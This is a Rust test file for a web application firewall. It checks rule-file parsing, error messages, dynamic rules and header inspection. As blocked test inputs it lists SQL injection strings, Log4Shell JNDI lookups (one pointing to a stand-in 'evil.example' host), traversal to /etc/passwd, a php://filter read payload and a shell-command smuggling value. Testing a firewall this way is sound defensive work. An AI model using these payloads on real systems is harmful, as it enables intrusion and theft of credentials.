//! The rule file: what it changes, and what is refused, with a message that names the line or the rule.

use crate::support::{Sent, get, inspect, value};
use universal_waf::Config;
use universal_waf::{Rules, Verdict};

fn waf(json: &str) -> Rules {
    Rules::new(&Config::parse(json.as_bytes()).unwrap()).unwrap()
}

fn refused(json: &str) -> String {
    Config::parse(json.as_bytes()).and_then(|config| Rules::new(&config)).unwrap_err().to_string()
}

#[test]
fn the_sample_file_is_valid() {
    let sample = waf(include_str!("../../waf-config.json"));
    assert_eq!(get(&sample, "/wp-login.php").reason.unwrap().rule, "no-wordpress-here");
}

#[test]
fn a_reason_says_rule_part_and_match() {
    let reason = value(&Rules::default(), "1 union select 1,2").reason.unwrap();
    assert_eq!((reason.rule.as_str(), reason.part.as_str()), ("sqli-union", "arg:q"));
    assert_eq!(reason.matched, "union select 1,2");
}

#[test]
fn a_rule_is_switched_off_by_id() {
    let off = waf(r#"{ "rules": { "lfi-hidden-file": { "enabled": false } } }"#);
    assert_eq!(get(&Rules::default(), "/.cursorignore").verdict, Verdict::Block);
    assert_eq!(get(&off, "/.cursorignore").verdict, Verdict::Allow);
}

#[test]
fn a_family_is_switched_off() {
    let off = waf(r#"{ "families": { "sqli": { "enabled": false } } }"#);
    assert_eq!(value(&off, "1 union select 1,2").verdict, Verdict::Allow);
}

#[test]
fn a_family_and_a_rule_have_actions_of_their_own() {
    let challenge = waf(r#"{ "families": { "sqli": { "action": "challenge" } } }"#);
    assert_eq!(value(&challenge, "1 union select 1,2").verdict, Verdict::Challenge);
    let log = waf(r#"{ "rules": { "lfi-hidden-file": { "action": "log" } } }"#);
    assert_eq!(get(&log, "/.cursorignore").verdict, Verdict::Log);
}

#[test]
fn thresholds_decide_when_a_family_acts() {
    assert_eq!(value(&Rules::default(), "4294967296").verdict, Verdict::Log);
    let strict = waf(r#"{ "families": { "sqli": { "threshold": 3 } } }"#);
    assert_eq!(value(&strict, "4294967296").verdict, Verdict::Block);
    let lenient = waf(r#"{ "families": { "sqli": { "log_threshold": 4 } } }"#);
    assert_eq!(value(&lenient, "4294967296").verdict, Verdict::Allow);
}

#[test]
fn dynamic_rules_look_where_they_are_told() {
    let rule = |place: &str, kind: &str, pattern: &str| {
        waf(&format!(
            r#"{{ "dynamic": [{{ "id": "mine", "where": ["{place}"], "kind": "{kind}", "pattern": "{pattern}", "action": "challenge" }}] }}"#
        ))
    };
    let sent = Sent {
        target: "/Shop/%61bc?q=one",
        headers: &[("User-Agent", "Acme/2"), ("X-Tenant", "blue"), ("Content-Type", "text/plain")],
        body: b"some tExt",
    };
    for (place, kind, pattern, matches) in [
        ("target", "contains", "/shop/abc", true),
        ("target", "regex", "^/shop/[a-c]+", true),
        ("target", "contains", "acme", false),
        ("args", "contains", "ONE", true),
        ("args", "contains", "shop", false),
        ("headers", "regex", "^x-tenant: blue$", true),
        ("headers", "contains", "one", false),
        ("user-agent", "contains", "acme", true),
        ("user-agent", "contains", "blue", false),
        ("body", "contains", "some text", true),
        ("body", "regex", "shop", false),
    ] {
        let verdict = inspect(&rule(place, kind, pattern), &sent).verdict;
        assert_eq!(verdict == Verdict::Challenge, matches, "{place} {kind} {pattern}");
    }
}

#[test]
fn more_than_the_limits_is_reported() {
    let few = waf(r#"{ "limits": { "parameters": 4, "bytes": 100 } }"#);
    assert_eq!(get(&few, "/?a=1").verdict, Verdict::Allow);
    for target in ["/?a=1&b=2&c=3".to_owned(), format!("/?a={}", "x".repeat(101))] {
        assert_eq!(get(&few, &target).reason.unwrap().rule, "limits-exceeded");
        assert_eq!(get(&few, &target).verdict, Verdict::Block);
    }
}

#[test]
fn what_is_wrong_is_named() {
    for (json, message) in [
        ("{\n  \"familes\": {}\n}", "line 2, column 11: unknown field `familes`"),
        ("{\n  \"rules\": 5 }", "line 2, column 12: invalid type: integer `5`"),
        ("[]", "a rule file is an object"),
        (" \n[ {}, {}, [] ]", "and not a list"),
        ("{", "line 1, column 1: EOF while parsing an object"),
        (r#"{ "families": { "sql": {} } }"#, "unknown variant `sql`"),
        (r#"{ "rules": { "sqli-onion": {} } }"#, "no built-in rule `sqli-onion`"),
        (r#"{ "families": { "xss": { "threshold": 0 } } }"#, "thresholds of `xss` must be at least 1"),
    ] {
        let error = refused(json);
        assert!(error.contains(message), "{error}");
    }
}

#[test]
fn a_dynamic_rule_that_is_wrong_is_named() {
    let rule = |id: &str, places: &str, kind: &str, pattern: &str| {
        format!(
            r#"{{ "id": "{id}", "where": [{places}], "kind": "{kind}", "pattern": "{pattern}", "action": "block" }}"#
        )
    };
    let one = |rule: String| refused(&format!(r#"{{ "dynamic": [{rule}] }}"#));
    assert!(one(rule("bad", "\"args\"", "regex", "(")).contains("dynamic rule `bad`: "));
    assert!(one(rule("huge", "\"args\"", "regex", "(a{900}){900}")).contains("dynamic rule `huge`: "));
    assert!(one(rule("empty", "\"args\"", "contains", "")).contains("`empty`: the pattern has 0 bytes"));
    assert!(one(rule("lost", "", "contains", "x")).contains("`lost`: `where` is empty"));
    assert!(one(rule("no good", "\"args\"", "contains", "x")).contains("number 0: the id \"no good\""));
    assert!(one(rule("xss-style", "\"args\"", "contains", "x")).contains("`xss-style`: another rule has this id"));
    assert!(one(rule("x", "\"everywhere\"", "contains", "x")).contains("unknown variant `everywhere`"));
    let twice = rule("twin", "\"args\"", "contains", "x");
    assert!(refused(&format!(r#"{{ "dynamic": [{twice}, {twice}] }}"#)).contains("`twin`: another rule has this id"));
}

#[test]
fn a_file_written_from_a_config_is_read_back() {
    let config = Config::parse(include_bytes!("../../waf-config.json")).unwrap();
    assert_eq!(Config::parse(&serde_json::to_vec(&config).unwrap()).unwrap(), config);
}

/// What the host says is to happen to what cannot be inspected, unless the rule file says so itself.
#[test]
fn what_is_not_looked_at_gets_the_verdict_that_the_host_wants() {
    // Twenty thousand bytes in front of an attack, as many parameters as are looked at.
    let target = format!("/?{}q=1%20union%20select%201,2", "a&".repeat(10_000));
    let of =
        |waf: &Rules, said: &str| inspect(waf, &Sent { target: &target, headers: &[(":if-unread", said)], body: b"" });
    for (said, verdict) in
        [("block", Verdict::Block), ("challenge", Verdict::Challenge), ("log", Verdict::Log), ("?", Verdict::Block)]
    {
        let decision = of(&Rules::default(), said);
        assert_eq!((decision.verdict, decision.reason.unwrap().rule.as_str()), (verdict, "limits-exceeded"), "{said}");
    }
    let file = waf(r#"{ "families": { "limits": { "action": "challenge" } } }"#);
    assert_eq!(of(&file, "log").verdict, Verdict::Challenge);
    let rule = waf(r#"{ "rules": { "limits-exceeded": { "action": "log" } } }"#);
    assert_eq!(of(&rule, "block").verdict, Verdict::Log);
    assert_eq!(get(&Rules::default(), &target).verdict, Verdict::Block);
}

#[test]
fn a_spent_budget_has_a_verdict_of_its_own() {
    let poor = waf(r#"{ "limits": { "work": 20000 } }"#);
    let decision = value(&poor, &"x = y; ".repeat(100));
    assert_eq!((decision.verdict, decision.reason.unwrap().rule.as_str()), (Verdict::Block, "limits-work"));
    assert_eq!(value(&poor, "short").verdict, Verdict::Allow);
}

#[test]
fn the_address_of_the_client_reaches_dynamic_rules_and_nothing_else() {
    let rule = r#"{ "id": "banned", "where": ["headers"], "kind": "contains", "pattern": ":client: 192.0.2.", "action": "block" }"#;
    let banned = waf(&format!("{{ \"dynamic\": [{rule}] }}"));
    let from =
        |address: &str| inspect(&banned, &Sent { target: "/", headers: &[(":client", address)], body: b"" }).verdict;
    assert_eq!((from("192.0.2.7"), from("198.51.100.1")), (Verdict::Block, Verdict::Allow));
}

/// Of a form and a JSON body, each server has its own idea.
#[test]
fn a_body_that_can_be_read_in_two_ways_is_not_waved_through() {
    let two = [("Content-Type", "application/json"), ("Content-Type", "text/plain")];
    let decision = inspect(&Rules::default(), &Sent { target: "/", headers: &two, body: b"{}" });
    assert_eq!((decision.verdict, decision.reason.unwrap().rule.as_str()), (Verdict::Block, "limits-unread"));
    let form = [("Content-Type", "multipart/form-data; boundary=x; boundary=y")];
    assert_eq!(
        inspect(&Rules::default(), &Sent { target: "/", headers: &form, body: b"--x--" }).verdict,
        Verdict::Block
    );
}

#[test]
fn headers_of_a_narrow_grammar_are_seen() {
    let sent = |rules: &Rules, name: &str, value: &str| {
        inspect(rules, &Sent { target: "/", headers: &[(name, value)], body: b"" }).verdict
    };
    let rule = r#"{ "dynamic": [{ "id": "x", "where": ["headers"], "kind": "contains", "pattern": "xx-evil", "action": "block" }] }"#;
    for name in ["Accept-Language", "Accept", "If-None-Match", "Cache-Control", "Sec-Fetch-Site", "Sec-CH-UA", "TE"] {
        assert_eq!(sent(&Rules::default(), name, "${jndi:ldap://e/a}"), Verdict::Block, "{name}");
        assert_eq!(sent(&waf(rule), name, "xx-evil"), Verdict::Block, "{name}");
        assert_eq!(sent(&Rules::default(), name, "xx-evil"), Verdict::Allow, "{name}");
    }
    for (name, value) in [
        ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,*/*;q=0.8"),
        ("Accept-Language", "de-CH, de;q=0.9, *;q=0.5"),
        ("If-None-Match", "W/\"67ab43\", \"54ed21\""),
        ("Sec-CH-UA", "\"Chromium\";v=\"130\", \"Not?A_Brand\";v=\"99\""),
        ("Authorization", "Bearer xx"),
    ] {
        assert_eq!(sent(&Rules::default(), name, value), Verdict::Allow, "{name}");
    }
}

#[test]
fn what_proxies_hand_on_is_inspected_unless_it_is_addresses() {
    let sent = |rules: &Rules, name: &str, value: &str| {
        inspect(rules, &Sent { target: "/", headers: &[(name, value)], body: b"" }).verdict
    };
    let rule = r#"{ "dynamic": [{ "id": "x", "where": ["headers"], "kind": "contains", "pattern": "192.0.2.1", "action": "block" }] }"#;
    for name in ["X-Forwarded-For", "X-Forwarded-Host", "X-Real-IP", "X-Request-ID"] {
        for attack in
            ["1 or 1=1", "${jndi:ldap://e/a}", "../../etc/passwd", "127.0.0.1, ' or '1'='1", "a, ;id", "<script>"]
        {
            assert_eq!(sent(&Rules::default(), name, attack), Verdict::Block, "{name}: {attack}");
        }
        for usual in ["127.0.0.1", "192.0.2.1, 198.51.100.7,203.0.113.9", "[2001:db8::1]:443", "a-b.example:80"] {
            assert_eq!(sent(&Rules::default(), name, usual), Verdict::Allow, "{name}: {usual}");
        }
        assert_eq!(sent(&waf(rule), name, "198.51.100.7, 192.0.2.1"), Verdict::Block, "{name}: dynamic rules see it");
    }
}

#[test]
fn a_header_of_a_narrow_grammar_is_inspected_if_there_is_more_in_it() {
    let sent = |name: &str, value: &str| {
        inspect(&Rules::default(), &Sent { target: "/", headers: &[(name, value)], body: b"" }).verdict
    };
    for (name, value) in [
        ("Accept-Language", "../../../../../../etc/passwd"),
        ("Accept-Language", "/etc/passwd"),
        ("Accept-Language", "1 UNION SELECT password FROM users"),
        ("Accept-Language", "php://filter/read=convert.base64-encode/resource=index"),
        ("Accept", "1 AND sleep(10)"),
        ("If-None-Match", "\"../../../../etc/passwd\""),
        ("Sec-Foo", "../../../../../../etc/passwd"),
        ("Sec-CH-UA", "1 UNION SELECT password FROM users"),
        ("Sec-WebSocket-Key", "../../../../etc/passwd"),
        ("Date", "1 UNION SELECT password FROM users"),
        ("If-Modified-Since", "1 AND sleep(10)"),
    ] {
        assert_eq!(sent(name, value), Verdict::Block, "{name}: {value}");
    }
}

#[test]
fn what_clients_usually_send_is_let_through() {
    const CHROME: &[(&str, &str)] = &[
        ("Host", "example.com"),
        ("Connection", "keep-alive"),
        ("Cache-Control", "max-age=0"),
        ("sec-ch-ua", "\"Chromium\";v=\"130\", \"Google Chrome\";v=\"130\", \"Not?A_Brand\";v=\"99\""),
        ("sec-ch-ua-mobile", "?0"),
        ("sec-ch-ua-platform", "\"Windows\""),
        ("sec-ch-ua-platform-version", "\"15.0.0\""),
        ("sec-ch-ua-full-version-list", "\"Chromium\";v=\"130.0.6723.117\", \"Not(A:Brand\";v=\"99.0.0.0\""),
        ("sec-ch-ua-model", "\"moto g (5) plus\""),
        ("Upgrade-Insecure-Requests", "1"),
        (
            "Accept",
            "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7",
        ),
        ("Sec-Fetch-Site", "none"),
        ("Sec-Fetch-User", "?1"),
        ("Accept-Encoding", "gzip, deflate, br, zstd"),
        ("Accept-Language", "en-GB,en-US;q=0.9,en;q=0.8"),
        ("If-None-Match", "W/\"3147526947+gzip\""),
        ("If-Modified-Since", "Thu, 17 Oct 2019 07:18:26 GMT"),
        ("Cookie", "a=b; c=d"),
    ];
    const OTHERS: &[(&str, &str)] = &[
        ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
        ("Accept-Language", "de,en-US;q=0.7,en;q=0.3"),
        ("Accept", "*/*"),
        ("Accept", "image/webp,image/avif,video/*;q=0.8,image/png,image/svg+xml,image/*;q=0.8,*/*;q=0.5"),
        ("Accept", "text/html, image/gif, image/jpeg, *; q=.2, */*; q=.2"),
        ("sec-ch-ua", "\" Not A;Brand\";v=\"99\", \"Microsoft Edge\";v=\"96\""),
        ("sec-ch-ua", "\"Not/A)Brand\";v=\"8\", \"Not=A?Brand\";v=\"24\""),
        ("sec-ch-ua", "\"\\\\Not\\\"A;Brand\";v=\"99\""),
        ("Date", "Tue, 15 Nov 1994 08:12:31 GMT"),
        ("If-None-Match", "\"5d8c72a5edda8d6a:0\", \"abc/def\", *"),
        ("TE", "trailers"),
        ("Connection", "Upgrade, HTTP2-Settings"),
        ("Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ=="),
        ("Sec-WebSocket-Extensions", "permessage-deflate; client_max_window_bits"),
        ("Pragma", "no-cache"),
    ];
    let decision = inspect(&Rules::default(), &Sent { target: "/", headers: CHROME, body: b"" });
    assert_eq!(decision.verdict, Verdict::Allow, "{decision:?}");
    for header in CHROME.iter().chain(OTHERS) {
        let decision = inspect(&Rules::default(), &Sent { target: "/", headers: &[*header], body: b"" });
        assert_eq!(decision.verdict, Verdict::Allow, "{header:?}: {decision:?}");
    }
}

#[test]
fn credentials_are_inspected_unless_they_are_a_token() {
    let sent = |value: &str| {
        ["Authorization", "Proxy-Authorization"]
            .map(|name| inspect(&Rules::default(), &Sent { target: "/", headers: &[(name, value)], body: b"" }).verdict)
    };
    for attack in [
        "Bearer ${jndi:ldap://evil.example/a}",
        "' UNION SELECT password FROM users--",
        "Digest username=\"' UNION SELECT password FROM users--\"",
        // `' OR 1=1--:x`, `admin:' OR 1=1--`; and the first one with what a careless decoder leaves out.
        "Basic JyBPUiAxPTEtLTp4",
        "basic YWRtaW46JyBPUiAxPTEtLQ==",
        "Basic JyBPUi.AxPTEtLTp4",
        "Basic JyBPUiAxPTEt\tLTp4",
        "Bearer ../../../../etc/passwd",
    ] {
        assert_eq!(sent(attack), [Verdict::Block; 2], "{attack}");
    }
    for usual in [
        "Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
        "Basic dXNlcjpwYXNz",
        "Digest username=\"Mufasa\", realm=\"http-auth@example.org\", uri=\"/dir/index.html\", algorithm=SHA-256, \
         nonce=\"7ypf/xlj9XXwfDPEoM4URrv/xwf94BcCAzFoH4GiTo0v\", nc=00000001, \
         cnonce=\"f2/wE4q74E6zIJEtWaHKaf5wv/H5QzzpXusqGemxURZJ\", qop=auth, \
         response=\"753927fa0e85d155564e2e272a28d1802ca10daf4496794697cf8db5856cb6c1\", \
         opaque=\"FQhe/qaU925kfnzjCv0ciny7QMkPqMAFRtzCUthdS5oS\"",
        "AWS4-HMAC-SHA256 Credential=AKIAIOSFODNN7EXAMPLE/20130524/us-east-1/s3/aws4_request, \
         SignedHeaders=host;range;x-amz-date, \
         Signature=fe5f80f77d5fa3beca038a248ff027d0445342fe2855ddc963176630326f1024",
        "OAuth realm=\"Photos\", oauth_consumer_key=\"dpf43f3p2l4k3l03\", oauth_signature_method=\"HMAC-SHA1\", \
         oauth_timestamp=\"137131200\", oauth_nonce=\"wIjqoxSZmFd\", \
         oauth_callback=\"http%3A%2F%2Fprinter.example.com%2Fready\", \
         oauth_signature=\"74KNZJeDHnMBp0EMJ9ZHt%2FXKycU%3D\"",
        "Token token=\"abc123\"",
        "0123456789abcdef",
    ] {
        assert_eq!(sent(usual), [Verdict::Allow; 2], "{usual}");
    }
}

#[test]
fn dynamic_rules_see_credentials_and_cookies_as_headers() {
    for (pattern, name, value) in [
        ("authorization: bearer evil", "Authorization", "Bearer evil"),
        ("authorization: digest x=", "Authorization", "Digest x=y"),
        ("cookie: evil", "Cookie", "evil=1"),
        ("cookie: a=b; evil", "Cookie", "a=b; evil=1"),
    ] {
        let rules = waf(&format!(
            r#"{{ "dynamic": [{{ "id": "x", "where": ["headers"], "kind": "contains", "pattern": "{pattern}", "action": "block" }}] }}"#
        ));
        let sent = Sent { target: "/", headers: &[(name, value)], body: b"" };
        assert_eq!(inspect(&rules, &sent).verdict, Verdict::Block, "{name}: {value}");
        assert_eq!(inspect(&Rules::default(), &sent).verdict, Verdict::Allow, "{name}: {value}");
    }
}

#[test]
fn what_only_dynamic_rules_look_at_counts_for_nothing_without_them() {
    let limits = r#""limits": { "parameters": 2, "bytes": 100 }"#;
    let headers: Vec<_> = (0..50).map(|_| ("Accept", "text/html, application/xml")).collect();
    let sent = Sent { target: "/", headers: &headers, body: b"" };
    assert_eq!(inspect(&waf(&format!("{{ {limits} }}")), &sent).verdict, Verdict::Allow);
    let rule = r#"{ "id": "x", "where": ["headers"], "kind": "contains", "pattern": "evil", "action": "block" }"#;
    let looking = waf(&format!(r#"{{ {limits}, "dynamic": [{rule}] }}"#));
    assert_eq!(inspect(&looking, &sent).reason.unwrap().rule, "limits-exceeded");
}
